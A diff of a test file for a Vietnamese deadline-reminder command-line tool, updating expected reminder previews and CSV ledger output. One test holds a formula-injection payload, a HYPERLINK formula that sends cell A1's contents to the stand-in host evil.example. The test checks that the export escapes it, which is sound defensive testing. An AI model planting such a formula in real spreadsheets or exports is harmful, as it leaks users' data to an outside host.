@@ -36,9 +36,9 @@ describe('thidua remind preview', () => {
     expect(code).toBe(0);
     const lines = out.trim().split('\n');
     expect(lines[0]).toContain('Dự kiến gửi từ 2026-12-07 trong 10 ngày');
-    expect(lines).toContain('2026-12-08 08:00  nhắc hạn (-7 ngày)   t-ack                      → Nguyễn Văn A (officer) · Cục Bổ trợ tư pháp · telegram');
-    expect(lines).toContain('2026-12-14 08:00  nhắc hạn (-1 ngày)   t-ack                      → (chưa có người nhận) officer/head · Cục Hành chính tư pháp');
-    expect(lines.some((l) => l.startsWith('2026-12-15 13:30  báo thủ trưởng') && l.includes('(chưa có người nhận) head · Cục Bổ trợ tư pháp'))).toBe(true);
+    expect(lines).toContain('2026-12-08 08:00  nhắc hạn (-7 ngày)   t-ack                      → Nguyễn Văn A (cán bộ đầu mối) · Cục Bổ trợ tư pháp · Telegram');
+    expect(lines).toContain('2026-12-14 08:00  nhắc hạn (-1 ngày)   t-ack                      → (chưa có người nhận) cán bộ đầu mối/thủ trưởng đơn vị · Cục Hành chính tư pháp');
+    expect(lines.some((l) => l.startsWith('2026-12-15 13:30  báo thủ trưởng') && l.includes('(chưa có người nhận) thủ trưởng đơn vị · Cục Bổ trợ tư pháp'))).toBe(true);
     expect(lines.some((l) => l.startsWith('2026-12-16 08:00  báo trễ hạn') && l.includes('(quản trị) · 7 đơn vị chưa hoàn thành'))).toBe(true);
     // Nothing at a non-working time, and the dry run recorded nothing.
     expect(lines.slice(1, -1).every((l) => / (08:00|13:30) /.test(l))).toBe(true);
@@ -68,7 +68,8 @@ describe('thidua remind ledger', () => {
     const rows = csv.toString('utf8').slice(1).trim().split('\r\n');
     expect(rows[0]).toContain('Mã hạn,Nội dung,Hạn');
     const btp = rows.find((r) => r.includes(',cuc-btp,'))!;
-    expect(btp).toContain('hoàn thành,2026-12-09 10:00,console:a');
+    expect(btp).toContain('hoàn thành,2026-12-09 10:00,cán bộ đầu mối (Cục Bổ trợ tư pháp)');
+    expect(csv.toString('utf8')).not.toContain('console:');
     expect(btp).toContain(',1,2026-12-08 08:00,');
     const hctp = rows.find((r) => r.includes(',cuc-hctp,'))!;
     expect(hctp).toContain('chưa hoàn thành');
@@ -83,7 +84,7 @@ describe('thidua remind ledger', () => {
     await t.tickAt('2026-12-08 08:00');
     await a.press('rem:done:t-ack');
     const text = (await ledgerCsv(t.reminders, 2026)).csv.toString('utf8');
-    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"") (console:a)",`);
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",`);
     expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
 
     const cells = toCsv(['a'], [['+1'], ['-1+2'], ['@SUM(A1)'], ['\tx'], ['\rx'], [-5], ['ok = fine']]).toString('utf8').slice(1).split('\r\n');
